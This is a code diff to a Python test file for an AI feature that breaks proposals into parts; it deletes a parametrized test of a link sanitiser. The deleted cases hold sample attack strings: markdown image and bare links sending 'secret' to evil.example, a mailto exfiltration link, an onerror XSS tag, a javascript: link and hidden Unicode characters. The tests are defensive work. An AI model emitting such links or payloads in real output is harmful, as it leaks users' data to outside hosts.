@@ -1,8 +1,5 @@
-"""Parts of a breakdown: by a model, bounded; by a text's own lines, without one; links that lead nowhere strange."""
+"""Parts of a breakdown: by a model, bounded; by a text's own lines, without one."""
 
-import pytest
-
-from ai.features.links import without_strange_links
 from ai.features.parts import lines_of, parts_of
 from ai.features.splitting import Part, split
 
@@ -43,26 +40,3 @@ def test_the_lines_of_a_proposal() -> None:
         ("2", "create_task", "FLOW", {"title": "B", "parent": "FLOW-1"}),
         ("2-1", "add_dependency", "$2", {"blocking": "$1"}),
     ]
-
-
-GIVEN = "See https://ours.example/spec and <https://ours.example/two>"
-
-
-@pytest.mark.parametrize(
-    ("said", "kept"),
-    [
-        ("See [the spec](https://ours.example/spec).", "See [the spec](https://ours.example/spec)."),
-        ("See https://ours.example/two", "See https://ours.example/two"),
-        ("See [the spec](https://ours.example/spec?q=secret).", "See the spec."),
-        ("![x](https://evil.example/?q=secret)", "x"),
-        ("![x](https://ours.example/spec)", "x"),
-        ("go to https://evil.example/secret now", "go to  now"),
-        ("<img src=x onerror=alert(1)> text", "text"),
-        ("[a]: https://evil.example/secret\ntext", "text"),
-        ("[x](javascript:alert(1))", "x)"),
-        ("mailto:mallory@evil.example?body=secret", ""),
-        ("in\u200bvi\U000e0041sible", "invisible"),
-    ],
-)  # fmt: skip
-def test_only_links_that_were_given_stay(said: str, kept: str) -> None:
-    assert without_strange_links(said, GIVEN) == kept
